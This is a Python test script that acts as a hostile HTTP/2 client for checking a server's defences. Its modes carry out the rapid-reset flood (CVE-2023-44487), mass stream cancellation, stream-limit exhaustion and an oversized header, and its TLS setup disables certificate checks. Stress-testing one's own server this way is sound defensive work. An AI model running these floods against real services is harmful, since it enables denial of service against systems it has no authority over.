#!/usr/bin/env python3
"""A hostile HTTP/2 client over TLS (ALPN h2), for tests/hostile.rs. Prints one JSON line.

    h2_hostile.py HOST PORT reset-flood N   HEADERS then RST_STREAM at once, N times, in big
                                            writes (CVE-2023-44487, rapid reset)
    h2_hostile.py HOST PORT cancel N        N requests each cancelled once the server has
                                            taken it (batches of 50, 20 ms apart)
    h2_hostile.py HOST PORT streams N       N requests at once, never cancelled; counts the
                                            streams the server refuses
    h2_hostile.py HOST PORT header-list N   one request with a header of N bytes; its status

Output: {"goaway": error code or null, "closed": whether the server closed the connection,
"refused": streams reset with REFUSED_STREAM, "status": the first response status or null}.
"""
import json, socket, ssl, sys, time

import h2.config, h2.connection, h2.events, h2.exceptions

REFUSED_STREAM = 0x7


def connect(host, port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_socket(socket.create_connection((host, port), timeout=5))
    if tls.selected_alpn_protocol() != "h2":
        sys.exit(f"h2_hostile: the server chose {tls.selected_alpn_protocol()!r}, not h2")
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    tls.sendall(connection.data_to_send())
    return tls, connection


class Outcome:
    def __init__(self):
        self.goaway, self.closed, self.refused, self.status = None, False, 0, None

    def take(self, events):
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = int(event.error_code)
            elif isinstance(event, h2.events.StreamReset) and event.error_code == REFUSED_STREAM:
                self.refused += 1
            elif isinstance(event, h2.events.ResponseReceived) and self.status is None:
                self.status = int(dict(event.headers)[b":status"])


def send(tls, connection, outcome):
    try:
        tls.sendall(connection.data_to_send())
    except OSError:
        outcome.closed = True


def read_for(tls, connection, outcome, seconds):
    """Reads what the server sends for `seconds`, or until it closes the connection."""
    end = time.monotonic() + seconds
    while not outcome.closed and time.monotonic() < end:
        tls.settimeout(max(0.01, end - time.monotonic()))
        try:
            data = tls.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except OSError:
            outcome.closed = True
            break
        if not data:
            outcome.closed = True
            break
        try:
            outcome.take(connection.receive_data(data))
        except h2.exceptions.ProtocolError:
            outcome.closed = True
        send(tls, connection, outcome)


def request_headers(host, port, extra=()):
    return [(":method", "GET"), (":scheme", "https"), (":authority", f"{host}:{port}"),
            (":path", "/hostile"), *extra]


def main():
    host, port, mode, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    tls, connection = connect(host, port)
    outcome = Outcome()
    headers = request_headers(host, port)
    if mode == "reset-flood":
        for sent in range(count):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, headers, end_stream=True)
            connection.reset_stream(stream)
            if sent % 500 == 499:
                send(tls, connection, outcome)
                if outcome.closed:
                    break
        send(tls, connection, outcome)
        read_for(tls, connection, outcome, 3)
    elif mode == "cancel":
        for _ in range(0, count, 50):
            streams = []
            for _ in range(50):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, headers, end_stream=True)
                streams.append(stream)
            send(tls, connection, outcome)
            read_for(tls, connection, outcome, 0.02)
            if outcome.closed:
                break
            for stream in streams:
                connection.reset_stream(stream)
            send(tls, connection, outcome)
        read_for(tls, connection, outcome, 3)
    elif mode == "streams":
        # The client side must not hold itself to the server's limit: that is what is tested.
        connection.remote_settings.max_concurrent_streams = 1 << 20
        for _ in range(count):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, headers, end_stream=True)
        send(tls, connection, outcome)
        read_for(tls, connection, outcome, 1)
    elif mode == "header-list":
        big = request_headers(host, port, [("x-big", "b" * count)])
        connection.send_headers(connection.get_next_available_stream_id(), big, end_stream=True)
        send(tls, connection, outcome)
        read_for(tls, connection, outcome, 2)
    else:
        sys.exit(f"h2_hostile: unknown mode {mode}")
    print(json.dumps({"goaway": outcome.goaway, "closed": outcome.closed,
                      "refused": outcome.refused, "status": outcome.status}))


if __name__ == "__main__":
    main()
